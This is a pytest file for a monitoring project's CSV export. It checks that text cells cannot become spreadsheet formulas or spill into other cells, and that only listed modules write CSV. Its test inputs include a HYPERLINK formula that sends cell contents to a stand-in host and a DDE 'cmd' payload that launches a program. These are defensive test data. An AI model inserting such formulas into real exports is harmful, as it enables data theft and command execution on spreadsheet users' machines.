"""Tables as CSV: no text becomes a formula in a spreadsheet, and no other module writes texts as CSV."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from monitor.report.tables import Column, Table

ROOT = Path(__file__).resolve().parents[3]
HEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
TEXTS = ("{}1+1", '{}HYPERLINK("http://plant.example?" & A1, "more")', "{}cmd|'/c calc'!A0", "{}", "{0}{0}a,b\n{0}c")
WRITERS = {
    "monitor/report/tables.py",
    # Numbers under names of configured parts, which begin with a letter or a digit.
    "monitor/gears/forces.py",
    # Numbers and statuses.
    "monitor/commands/history_files.py",
    # Read by programs: users of the page, responses.
    "monitor/web/users.py",
    "monitor/gears/frf_files.py",
}


@pytest.mark.parametrize("head", HEADS)
def test_no_text_becomes_a_formula(head: str) -> None:
    texts = [text.format(head) for text in TEXTS]
    table = Table("t", "T", [Column("text", "Text"), Column("more", "More")], [(text, "plain") for text in texts])
    rows = list(csv.reader(io.StringIO(table.to_csv(), newline="")))
    assert len(rows) == 1 + len(texts)
    for (cell, beside), text in zip(rows[1:], texts, strict=True):
        assert (cell, beside) == (f"'{text}".replace("\r", "\n"), "plain")


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n", "\r=2,", "\0"])
def test_no_text_begins_another_cell(end: str) -> None:
    text = f"note{end}=1+1,=2+2"
    table = Table("t", "T", [Column("text", "Text"), Column("more", "More")], [(text, text)])
    rows = list(csv.reader(io.StringIO(table.to_csv(), newline="")))
    assert rows[1:] == [[text.replace("\r\n", "\n").replace("\r", "\n")] * 2]


def test_numbers_stay_numbers_and_other_texts_as_they_are() -> None:
    table = Table("t", "T", [Column("n", "N", "m/s2"), Column("text", "Text")], [(-1.5, "a=b"), (None, "")])
    assert table.to_csv().splitlines()[1:] == ["-1.5,a=b", ","]


def test_no_other_module_writes_csv() -> None:
    modules = [path for folder in ("monitor", "streams", "spallwatch") for path in (ROOT / folder).rglob("*.py")]
    found = {
        str(path.relative_to(ROOT))
        for path in modules
        if re.search(r"csv\.(writer|DictWriter)", path.read_text(encoding="utf-8"))
    }
    assert found == WRITERS
